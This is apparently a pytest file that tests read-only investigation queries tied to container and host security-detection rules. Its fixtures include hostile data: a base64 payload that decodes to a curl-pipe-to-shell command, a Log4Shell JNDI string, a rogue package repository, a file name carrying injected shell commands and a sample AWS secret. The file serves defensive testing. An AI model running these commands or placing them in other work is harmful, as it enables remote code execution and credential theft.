"""Looks of the incubating and sandbox rules that change nothing: each is told with the thing that it looks at."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

import pytest

from tests.lab.places.spot import Spot
from tests.lab.story import Tell

SECRET = "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI"
PROXY = "HTTP_PROXY=http://203.0.113.9:3128"
HIDDEN = "Create Hidden Files or Directories"
PAYLOAD = "sh -c echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNoCg== | base64 -d"


@dataclass(frozen=True)
class Look:
    """One rule's story: what lies at which path, what else the alert says, and what the looks show."""

    path: str = ""
    text: str = "#!/bin/sh\n"
    fields: tuple[str, ...] = ()
    """Which of the alert's fields hold the path."""
    more: dict[str, Any] = field(default_factory=dict)
    shows: tuple[str, ...] = ()
    places: tuple[str, ...] = ("host", "container")


BOTH: dict[str, Look] = {
    "Create Hidden Files or Directories": Look(
        "/opt/.x/tool", fields=("evt.arg.newpath", "fd.name"), shows=("opt/.x/tool", "#!/bin/sh")
    ),
    "Delete or rename shell history": Look(
        "/root/.bash_history",
        "curl http://203.0.113.9/x\n",
        ("fd.name", "evt.arg.name"),
        shows=("curl http://203.0.113.9/x",),
    ),
    "Modify binary dirs": Look("/usr/bin/ls.x", shows=("usr/bin/ls.x",)),
    "Read Shell Configuration File": Look(
        "/root/.bashrc", f"export {SECRET}\n", ("fd.name",), shows=("1:SECRET_ACCESS_KEY", "root/.bashrc")
    ),
    "Update Package Repository": Look(
        "/etc/apt/sources.list.d/x.list",
        "deb http://203.0.113.9/ x main\n",
        ("fd.name",),
        shows=("deb http://203.0.113.9/",),
    ),
    "Change thread namespace": Look(shows=("tail -f /etc/passwd",)),
    "Reverse Shell from Web Server": Look("/var/www/html/x.php", shows=("var/www/html/x.php",)),
    "Write below binary dir": Look("/usr/local/bin/x", fields=("fd.name",), shows=("Change: ", "usr/local/bin/x")),
    "Non sudo setuid": Look("/usr/bin/tool", shows=("Change: ",)),
}
HOSTS = {
    "Java Process Class File Download": Look(
        "/var/log/app.log",
        "GET /${jndi:ldap://203.0.113.9/a}\n",
        shows=("jndi:ldap://203.0.113.9/a",),
        places=("host",),
    ),
    "Sudo Potential Privilege Escalation": Look(shows=("CVE-2021-3156", "root:x:0:0"), places=("host",)),
    "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)": Look(
        shows=("no path found", "root:x:0:0"), places=("host",)
    ),
}
CONTAINERS = {
    "Launch Ingress Remote File Copy Tools in Container": Look(
        "/tmp/dropped", shows=("tmp/dropped",), places=("container",)
    ),
    "Change namespace privileges via unshare": Look(shows=("mnt:[", "tail -f"), places=("container",)),
    "Program run with disallowed http proxy env": Look(
        more={"proc.env": PROXY}, shows=("203.0.113.9:3128",), places=("container",)
    ),
    "Read environment variable from /proc files": Look(
        more={"fd.name": "/proc/1/environ"}, shows=("AWS_SECRET_ACCESS_KEY",), places=("container",)
    ),
    "Decoding Payload in Container": Look(
        more={"proc.cmdline": PAYLOAD}, shows=("curl http://203.0.113.9/x | sh",), places=("container",)
    ),
}
LOOKS = {**BOTH, **HOSTS, **CONTAINERS}
RULES = tuple(LOOKS)


def test_a_directory_without_a_name_is_found(spot: Spot, tell: Tell) -> None:
    """A new directory's name is not in the alert."""
    spot.write("/opt/.x/tool", "#!/bin/sh\n")
    report = tell(spot.fields(spot.start("tail", "-f", "/etc/passwd")), rule=HIDDEN, host=spot.place)
    report.look("What was hidden lately?", shows="opt/.x/tool", seconds=60)


def test_a_hidden_name_that_is_a_command(spot: Spot, tell: Tell) -> None:
    path = "/opt/.x/'; touch owned; $(touch owned)"
    spot.write(path, "#!/bin/sh\n")
    fields = spot.fields(spot.start("tail", "-f", "/etc/passwd"), fd__name=path)
    report = tell(fields, rule=HIDDEN, host=spot.place)
    report.look("What is hidden there?", shows=["#!/bin/sh", "$(touch owned)"], seconds=60)
    assert not spot.place.exists("/root/owned")


@pytest.mark.parametrize("rule", RULES)
def test_what_is_there_is_seen(spot: Spot, tell: Tell, rule: str) -> None:
    story = LOOKS[rule]
    if ("container" if spot.container else "host") not in story.places:
        return
    pid = spot.start("env", SECRET, PROXY, "tail", "-f", "/etc/passwd")
    spot.write("/var/log/dpkg.log", "2026-11-28 status installed tool\n")
    if story.path:
        spot.write(story.path, story.text, 0o755)
    fields = spot.fields(pid) | story.more | dict.fromkeys(story.fields, story.path)
    report = tell(fields, rule=rule, host=spot.place)
    said = report.looks(shows=story.shows, seconds=60)
    assert "wJalrXUtnFEMI" not in said, "a secret was printed"
